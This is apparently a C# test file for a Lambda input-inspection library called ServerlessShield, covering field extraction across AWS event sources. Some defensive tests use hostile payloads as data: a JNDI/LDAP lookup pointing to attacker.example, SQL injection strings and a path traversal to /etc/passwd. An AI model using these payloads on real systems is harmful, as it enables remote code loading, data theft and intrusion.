using ServerlessShield.AwsLambda.Tests.Support;

namespace ServerlessShield.AwsLambda.Tests.Extraction;

public sealed class LambdaInputExtractionTests
{
    private static async Task<CapturedInvocation> RunAsync(byte[] eventBytes)
    {
        var captured = new List<CapturedInvocation>();
        var function = new ShieldedFunction(options: CapturedInvocation.Capture(captured));
        await function.InvokeAsync(eventBytes, "req-capture");
        return Assert.Single(captured);
    }

    [Fact]
    public async Task Extract_RestProxy_ReadsRequestPartsBodyQueryPathParametersAndSelectedHeaders()
    {
        var seen = await RunAsync(Fixtures.Bytes("apigw-rest"));

        Assert.Equal(new EventSourceInfo(EventSourceKind.Http, "apigw-rest"), seen.Source);
        var http = Assert.IsType<HttpRequestParts>(seen.Http);
        Assert.Equal("POST", http.Method);
        Assert.Equal("/orders/42", http.Path);
        Assert.Equal("application/json", http.ContentType);
        Assert.Equal("203.0.113.10", http.GetHeader("x-forwarded-for"));
        Assert.Equal([new("expand", "items"), new("tag", "a"), new("tag", "b")], http.Query);
        Assert.Equal([new("id", "42")], http.RouteValues);
        Assert.Equal(["body", "query.expand", "query.tag", "query.tag", "route.id", "headers.X-Forwarded-For"], seen.Inputs.Select(i => i.Path));
        Assert.Equal(InputFormat.Json, seen.Inputs[0].Format);
        Assert.All(seen.Inputs.Skip(1), i => Assert.Equal(InputFormat.Text, i.Format));
        Assert.Equal("{\"item\":\"book\",\"quantity\":2}", seen.Text("body"));
    }

    [Fact]
    public async Task Extract_HttpApiV2_DecodesBase64BodyAndKeepsRepeatedQueryNamesApart()
    {
        var seen = await RunAsync(Fixtures.Bytes("apigw-http"));

        Assert.Equal("apigw-http", seen.Source.Name);
        var http = Assert.IsType<HttpRequestParts>(seen.Http);
        Assert.Equal("POST", http.Method);
        Assert.Equal("/orders", http.Path);
        Assert.Equal([new("tag", "a"), new("tag", "b"), new("q", "café au lait")], http.Query);
        Assert.Equal("session=abc; theme=dark", http.GetHeader("cookie"));
        Assert.Equal("{\"item\":\"book\"}", seen.Text("body"));
        Assert.Equal(InputFormat.Json, seen.Inputs[0].Format);
    }

    [Fact]
    public async Task Extract_FunctionUrlTextBody_IsAutoFormat()
    {
        var seen = await RunAsync(Fixtures.Bytes("function-url"));

        Assert.Equal("function-url", seen.Source.Name);
        Assert.Equal("/my/path", seen.Http!.Path);
        Assert.Equal([new("parameter1", "value1"), new("parameter1", "value2")], seen.Http.Query);
        Assert.Equal(InputFormat.Auto, seen.Inputs.Single(i => i.Path == "body").Format);
    }

    [Fact]
    public async Task Extract_Alb_UrlDecodesQueryValues()
    {
        var seen = await RunAsync(Fixtures.Bytes("alb"));

        Assert.Equal("café", seen.Text("query.name"));
        Assert.Equal("GET", seen.Http!.Method);
    }

    [Fact]
    public async Task Extract_WebSocketMessage_IsAPostWithItsBody()
    {
        var seen = await RunAsync(Fixtures.Bytes("apigw-websocket"));

        Assert.Equal("POST", seen.Http!.Method);
        Assert.Equal("{\"action\":\"sendmessage\",\"message\":\"hello\"}", seen.Text("body"));
    }

    [Fact]
    public async Task Extract_Sqs_EachBodyIsAnInputTiedToItsMessageId()
    {
        var seen = await RunAsync(Fixtures.Bytes("sqs"));
        var records = Fixtures.Node("sqs")["Records"]!.AsArray();

        Assert.Equal(new EventSourceInfo(EventSourceKind.Queue, "aws:sqs"), seen.Source);
        Assert.Null(seen.Http);
        Assert.Equal(["Records[0].body", "Records[1].body", "Records[2].body"], seen.Inputs.Select(i => i.Path));
        Assert.Equal(records.Select(r => r!["messageId"]!.GetValue<string>()), seen.Inputs.Select(i => i.ItemId));
        Assert.All(seen.Inputs, i => Assert.Equal(InputFormat.Auto, i.Format));
        Assert.Equal("plain text order 3", seen.Text("Records[2].body"));
    }

    [Fact]
    public async Task Extract_SqsStringMessageAttributes_AreInputsOfTheirRecord()
    {
        var bytes = Fixtures.With("sqs", e => e["Records"]![1]!["messageAttributes"] = new System.Text.Json.Nodes.JsonObject
        {
            ["tenant"] = new System.Text.Json.Nodes.JsonObject { ["stringValue"] = "acme", ["dataType"] = "String" },
        });

        var seen = await RunAsync(bytes);

        var attribute = seen.Inputs.Single(i => i.Path == "Records[1].messageAttributes.tenant");
        Assert.Equal("acme", seen.Text(attribute.Path));
        Assert.Equal(seen.Inputs.Single(i => i.Path == "Records[1].body").ItemId, attribute.ItemId);

        // The attribute travels beside the payload: inspected, never validated as the message's type.
        Assert.True(attribute.IsMetadata);
        Assert.False(seen.Inputs.Single(i => i.Path == "Records[1].body").IsMetadata);
    }

    // A Binary attribute carries base64 bytes (SQS binaryValue, SNS Value with Type Binary); they are inspected as the
    // consumer reads them, tied to their record like string attributes.
    [Fact]
    public async Task Extract_BinaryMessageAttributes_AreDecodedInputs()
    {
        var encoded = Convert.ToBase64String("tenant-42"u8);
        var sqs = await RunAsync(Fixtures.With("sqs", e => e["Records"]![1]!["messageAttributes"] = new System.Text.Json.Nodes.JsonObject
        {
            ["tenant"] = new System.Text.Json.Nodes.JsonObject { ["binaryValue"] = encoded, ["dataType"] = "Binary" },
        }));
        var sns = await RunAsync(Fixtures.With("sns", e => e["Records"]![0]!["Sns"]!["MessageAttributes"] = new System.Text.Json.Nodes.JsonObject
        {
            ["tenant"] = new System.Text.Json.Nodes.JsonObject { ["Type"] = "Binary", ["Value"] = encoded },
        }));

        Assert.Equal("tenant-42", sqs.Text("Records[1].messageAttributes.tenant"));
        Assert.Equal(sqs.Inputs.Single(i => i.Path == "Records[1].body").ItemId, sqs.Inputs.Single(i => i.Path == "Records[1].messageAttributes.tenant").ItemId);
        Assert.Equal("tenant-42", sns.Text("Records[0].Sns.MessageAttributes.tenant"));
        Assert.True(sqs.Inputs.Single(i => i.Path == "Records[1].messageAttributes.tenant").IsMetadata);
        Assert.True(sns.Inputs.Single(i => i.Path == "Records[0].Sns.MessageAttributes.tenant").IsMetadata);
        Assert.False(sns.Inputs.Single(i => i.Path == "Records[0].Sns.Message").IsMetadata);
    }

    [Theory]
    [InlineData("vpc-lattice-v1", "/testpath", "{\"test\": \"event\"}")]
    [InlineData("vpc-lattice-v2", "/newpath", "{\"message\": \"hi\"}")]
    public async Task Extract_VpcLattice_ReadsBothEventStructures(string fixture, string path, string body)
    {
        var seen = await RunAsync(Fixtures.Bytes(fixture));

        Assert.Equal("GET", seen.Http!.Method);
        Assert.Equal(path, seen.Http.Path);
        Assert.Equal("curl/8.5.0", seen.Http.GetHeader("user_agent"));
        Assert.Equal("1", seen.Text("query.order-id"));
        Assert.Equal(body, seen.Text("body"));
    }

    [Theory]
    [InlineData("cognito-presignup")]
    [InlineData("stepfunctions-context")]
    [InlineData("ses")]
    [InlineData("direct-invoke")]
    public async Task Extract_SourceWithoutItsOwnExtractor_InspectsTheWholeEvent(string fixture)
    {
        var eventBytes = Fixtures.Bytes(fixture);

        var seen = await RunAsync(eventBytes);

        var input = Assert.Single(seen.Inputs);
        Assert.Equal("event", input.Path);
        Assert.Equal(InputFormat.Json, input.Format);
        Assert.Equal(eventBytes, input.Data.ToArray());
    }

    [Fact]
    public async Task Extract_EventThatIsNotJson_IsOneAutoInputOfUnknownSource()
    {
        var seen = await RunAsync("plain words"u8.ToArray());

        Assert.Equal(EventSourceInfo.Unknown, seen.Source);
        Assert.Equal(InputFormat.Auto, Assert.Single(seen.Inputs).Format);
    }

    [Fact]
    public async Task Extract_Kinesis_DecodesEachRecordsDataTiedToItsSequenceNumber()
    {
        var seen = await RunAsync(Fixtures.Bytes("kinesis"));

        Assert.Equal(["Records[0].kinesis.data", "Records[0].kinesis.partitionKey"], seen.Inputs.Select(i => i.Path));
        var input = seen.Inputs[0];
        Assert.Equal("Hello, this is a test.", seen.Text(input.Path));
        Assert.All(seen.Inputs, i => Assert.Equal("49590338271490256608559692538361571095921575989136588898", i.ItemId));

        // The producer chose the partition key: metadata, inspected with its record.
        Assert.True(seen.Inputs[1].IsMetadata);
        Assert.Equal("1", seen.Text("Records[0].kinesis.partitionKey"));
    }

    // On a FIFO queue the sender chooses the group and deduplication ids: metadata of their record.
    [Fact]
    public async Task Extract_SqsFifo_GroupAndDeduplicationIdsAreInputsOfTheirRecord()
    {
        var seen = await RunAsync(Fixtures.With("sqs-fifo", e => e["Records"]![1]!["attributes"]!["MessageGroupId"] = "tenant-7' OR '1'='1"));

        var group = seen.Inputs.Single(i => i.Path == "Records[1].attributes.MessageGroupId");
        Assert.True(group.IsMetadata);
        Assert.Equal(seen.Inputs.Single(i => i.Path == "Records[1].body").ItemId, group.ItemId);
        Assert.Contains(seen.Findings, f => f.FieldPath == "Records[1].attributes.MessageGroupId" && f.Rule == ShieldRules.SqlInjection);
    }

    [Fact]
    public async Task Extract_DynamoDb_InspectsTheNewImageTiedToItsSequenceNumber()
    {
        var seen = await RunAsync(Fixtures.Bytes("dynamodb"));

        var input = Assert.Single(seen.Inputs);
        Assert.Equal("Records[0].dynamodb.NewImage", input.Path);
        Assert.Equal(InputFormat.Json, input.Format);
        Assert.Contains("New item!", seen.Text(input.Path), StringComparison.Ordinal);
        Assert.Equal("4421584500000000017450439091", input.ItemId);
    }

    [Fact]
    public async Task Extract_Sns_InspectsMessageSubjectAndAttributes()
    {
        var bytes = Fixtures.With("sns", e => e["Records"]![0]!["Sns"]!["MessageAttributes"] = new System.Text.Json.Nodes.JsonObject
        {
            ["tenant"] = new System.Text.Json.Nodes.JsonObject { ["Type"] = "String", ["Value"] = "acme" },
            ["blob"] = new System.Text.Json.Nodes.JsonObject { ["Type"] = "Binary", ["Value"] = "AAEC" },
        });

        var seen = await RunAsync(bytes);

        Assert.Equal(["Records[0].Sns.Message", "Records[0].Sns.Subject", "Records[0].Sns.MessageAttributes.tenant", "Records[0].Sns.MessageAttributes.blob"], seen.Inputs.Select(i => i.Path));
        Assert.Equal("Hello from SNS!", seen.Text("Records[0].Sns.Message"));
        Assert.Equal([0, 1, 2], seen.Inputs[3].Data.ToArray());
        Assert.Equal(InputFormat.Auto, seen.Inputs[3].Format);
        Assert.All(seen.Inputs, i => Assert.Null(i.ItemId));
    }

    [Fact]
    public async Task Extract_S3_InspectsTheUrlDecodedObjectKey()
    {
        var seen = await RunAsync(Fixtures.Bytes("s3"));

        Assert.Equal("uploads/report(1).pdf", seen.Text(Assert.Single(seen.Inputs).Path));
    }

    [Theory]
    [InlineData("eventbridge")]
    [InlineData("eventbridge-scheduled")]
    public async Task Extract_EventBridge_InspectsTheDetail(string fixture)
    {
        var seen = await RunAsync(Fixtures.Bytes(fixture));

        var input = Assert.Single(seen.Inputs);
        Assert.Equal("detail", input.Path);
        Assert.Equal(InputFormat.Json, input.Format);
    }

    [Theory]
    [InlineData("kafka-msk", "records.mytopic-0[0].value", "Hello, this is a test.")]
    [InlineData("kafka-self-managed", "records.mytopic-0[0].value", "Hello")]
    [InlineData("mq-activemq", "messages[0].data", "ABC:AAAA")]
    [InlineData("mq-rabbitmq", "rmqMessagesByQueue.pizzaQueue::/[0].data", "{\"timeout\":0}")]
    [InlineData("firehose", "records[0].data", "Hello World")]
    public async Task Extract_EncodedMessages_AreDecodedBeforeInspection(string fixture, string path, string expected)
    {
        var seen = await RunAsync(Fixtures.Bytes(fixture));

        Assert.Equal(expected, seen.Text(path));
    }

    // What a producer sets beside the payload is read as the consumer reads it: Kafka header bytes, RabbitMQ header
    // bytes and strings, ActiveMQ properties.
    [Fact]
    public async Task Extract_MessageMetadata_IsInspectedBesideThePayload()
    {
        var kafka = await RunAsync(Fixtures.Bytes("kafka-msk"));
        var rabbit = await RunAsync(Fixtures.With("mq-rabbitmq", e =>
            e["rmqMessagesByQueue"]!["pizzaQueue::/"]![0]!["basicProperties"]!["headers"] = new System.Text.Json.Nodes.JsonObject
            {
                ["tenant"] = new System.Text.Json.Nodes.JsonObject { ["bytes"] = new System.Text.Json.Nodes.JsonArray(97, 99, 109, 101) },
                ["source"] = "web",
                ["retries"] = 3,
            }));
        var active = await RunAsync(Fixtures.With("mq-activemq", e => e["messages"]![0]!["properties"] = new System.Text.Json.Nodes.JsonObject { ["region"] = "eu-west-1" }));

        Assert.Equal("headerValue", kafka.Text("records.mytopic-0[0].headers.headerKey"));
        Assert.Equal("acme", rabbit.Text("rmqMessagesByQueue.pizzaQueue::/[0].basicProperties.headers.tenant"));
        Assert.Equal("web", rabbit.Text("rmqMessagesByQueue.pizzaQueue::/[0].basicProperties.headers.source"));
        Assert.DoesNotContain(rabbit.Inputs, i => i.Path.EndsWith(".retries", StringComparison.Ordinal));
        Assert.Equal("eu-west-1", active.Text("messages[0].properties.region"));
        Assert.Contains(kafka.Inputs, i => i.Path.EndsWith("].key", StringComparison.Ordinal));
        Assert.All(kafka.Inputs.Concat(rabbit.Inputs).Concat(active.Inputs), i => Assert.Equal(
            i.Path.Contains(".headers.", StringComparison.Ordinal) || i.Path.Contains(".properties.", StringComparison.Ordinal) || i.Path.EndsWith("].key", StringComparison.Ordinal),
            i.IsMetadata));
    }

    [Fact]
    public async Task Extract_CloudFormationCustomResource_InspectsThePropertiesNeverTheResponseUrl()
    {
        var seen = await RunAsync(Fixtures.With("cloudformation", e =>
        {
            e["RequestType"] = "Update";
            e["OldResourceProperties"] = new System.Text.Json.Nodes.JsonObject { ["Table"] = "legacy" };
        }));

        Assert.Equal(["ResourceProperties", "OldResourceProperties"], seen.Inputs.Select(i => i.Path));
        Assert.All(seen.Inputs, i => Assert.Equal(InputFormat.Json, i.Format));
        Assert.Equal("{\"ServiceToken\":\"x\",\"Table\":\"orders\"}", seen.Text("ResourceProperties"));
        Assert.Equal("{\"Table\":\"legacy\"}", seen.Text("OldResourceProperties"));
        Assert.DoesNotContain(seen.Inputs, i => seen.Text(i.Path).Contains("presigned", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("appsync-direct-resolver", new[] { "arguments" }, "{\"id\":\"123\"}")]
    [InlineData("appsync-template-resolver", new[] { "arguments" }, "{\"limit\":10}")]
    [InlineData("appsync-batch-resolver", new[] { "[0].arguments", "[1].arguments" }, "{\"id\":\"1\"}")]
    public async Task Extract_AppSyncResolver_InspectsTheArgumentsOnly(string fixture, string[] paths, string firstArguments)
    {
        var seen = await RunAsync(Fixtures.Bytes(fixture));

        Assert.Equal(paths, seen.Inputs.Select(i => i.Path));
        Assert.All(seen.Inputs, i => Assert.Equal(InputFormat.Json, i.Format));
        Assert.Equal(firstArguments, System.Text.Json.Nodes.JsonNode.Parse(seen.Text(paths[0]))!.ToJsonString());
    }

    // AppSync forwards the client's HTTP headers: they are selected as for any HTTP request, credentials never, and the
    // headers of a batch (one GraphQL request) are read once.
    [Fact]
    public async Task Extract_AppSyncResolver_ForwardedHeadersAreSelectedAsForHttp()
    {
        static System.Text.Json.Nodes.JsonObject Headers() => new()
        {
            ["host"] = "example.appsync-api.us-east-1.amazonaws.com",
            ["user-agent"] = "Mozilla/5.0 (X11; Linux x86_64)",
            ["x-tenant"] = "contoso",
            ["authorization"] = "Bearer eyJhbGciOiJIUzI1NiJ9.e30.sig",
            ["x-api-key"] = "da2-secretsecretsecret",
        };

        var direct = await RunAsync(Fixtures.With("appsync-direct-resolver", e => e["request"] = new System.Text.Json.Nodes.JsonObject { ["headers"] = Headers() }));
        var calls = System.Text.Json.Nodes.JsonNode.Parse(Fixtures.Bytes("appsync-batch-resolver"))!.AsArray();
        foreach (var call in calls)
        {
            call!["request"] = new System.Text.Json.Nodes.JsonObject { ["headers"] = Headers() };
        }

        var batch = await RunAsync(System.Text.Encoding.UTF8.GetBytes(calls.ToJsonString()));

        Assert.Equal(["arguments", "headers.user-agent", "headers.x-tenant"], direct.Inputs.Select(i => i.Path));
        Assert.Equal(["[0].arguments", "headers.user-agent", "headers.x-tenant", "[1].arguments"], batch.Inputs.Select(i => i.Path));
        Assert.All(direct.Inputs.Concat(batch.Inputs), i => Assert.Equal(i.Path.StartsWith("headers.", StringComparison.Ordinal), i.IsMetadata));
        Assert.Null(direct.Http);
    }

    [Fact]
    public async Task AppSyncResolver_InjectionInAForwardedHeader_IsBlocked()
    {
        var function = new ShieldedFunction();

        await Assert.ThrowsAsync<ShieldedInvocationException>(() => function.InvokeAsync(Fixtures.With("appsync-direct-resolver", e =>
            e["request"]!["headers"]!["user-agent"] = "${jndi:ldap://attacker.example/a}")));

        Assert.Empty(function.Received);
    }

    // The selection set is fixed by the schema: a field named "id" on a line of its own is not the id command.
    [Fact]
    public async Task AppSyncResolver_SelectionSetIsNotRequestInput_ArgumentsAre()
    {
        var function = new ShieldedFunction();
        await function.InvokeAsync(Fixtures.With("appsync-direct-resolver", e => e["info"]!["selectionSetGraphQL"] = "{\n  id\n  field1\n}"));
        Assert.Single(function.Received);

        await Assert.ThrowsAsync<ShieldedInvocationException>(() => function.InvokeAsync(Fixtures.With("appsync-direct-resolver", e =>
            e["arguments"]!["id"] = "1' OR '1'='1' --")));
        Assert.Single(function.Received);
    }

    [Fact]
    public async Task Extract_CloudFront_InspectsTheViewerRequestOnly()
    {
        var seen = await RunAsync(Fixtures.With("cloudfront", e =>
        {
            var request = e["Records"]![0]!["cf"]!["request"]!;
            request["querystring"] = "q=shoes&size=10";
            request["method"] = "POST";
            request["headers"]!["content-type"] = new System.Text.Json.Nodes.JsonArray(
                new System.Text.Json.Nodes.JsonObject { ["key"] = "Content-Type", ["value"] = "application/json" });
            request["body"] = new System.Text.Json.Nodes.JsonObject
            {
                ["inputTruncated"] = false, ["action"] = "read-only", ["encoding"] = "base64", ["data"] = "eyJuYW1lIjoiSmFuZSJ9",
            };
            e["Records"]![0]!["cf"]!["response"] = new System.Text.Json.Nodes.JsonObject
            {
                ["status"] = "200",
                ["headers"] = new System.Text.Json.Nodes.JsonObject
                {
                    ["vary"] = new System.Text.Json.Nodes.JsonArray(new System.Text.Json.Nodes.JsonObject { ["key"] = "Vary", ["value"] = "*" }),
                },
            };
        }));

        var http = Assert.IsType<HttpRequestParts>(seen.Http);
        Assert.Equal("POST", http.Method);
        Assert.Equal("/", http.Path);
        Assert.Equal("application/json", http.ContentType);
        Assert.Equal(["body", "query.q", "query.size"], seen.Inputs.Select(i => i.Path));
        Assert.Equal("{\"name\":\"Jane\"}", seen.Text("body"));
        Assert.Equal(InputFormat.Json, seen.Inputs[0].Format);
    }

    // The origin's response headers are not request input (Vary: * is not an LDAP wildcard); the viewer's URI is.
    [Fact]
    public async Task CloudFront_ResponseIsNotInspected_RequestUriIs()
    {
        var function = new ShieldedFunction();
        await function.InvokeAsync(Fixtures.With("cloudfront", e => e["Records"]![0]!["cf"]!["response"] = new System.Text.Json.Nodes.JsonObject
        {
            ["headers"] = new System.Text.Json.Nodes.JsonObject
            {
                ["vary"] = new System.Text.Json.Nodes.JsonArray(new System.Text.Json.Nodes.JsonObject { ["key"] = "Vary", ["value"] = "*" }),
            },
        }));
        Assert.Single(function.Received);

        await Assert.ThrowsAsync<ShieldedInvocationException>(() => function.InvokeAsync(Fixtures.With("cloudfront", e =>
            e["Records"]![0]!["cf"]!["request"]!["uri"] = "/static/../../../../etc/passwd")));
        Assert.Single(function.Received);
    }

    [Fact]
    public async Task Extract_CloudWatchLogs_InspectsTheDecompressedDocument()
    {
        var seen = await RunAsync(Fixtures.Bytes("cloudwatch-logs"));

        var input = Assert.Single(seen.Inputs);
        Assert.Equal("awslogs.data", input.Path);
        Assert.Contains("First test message", seen.Text(input.Path), StringComparison.Ordinal);
    }
}
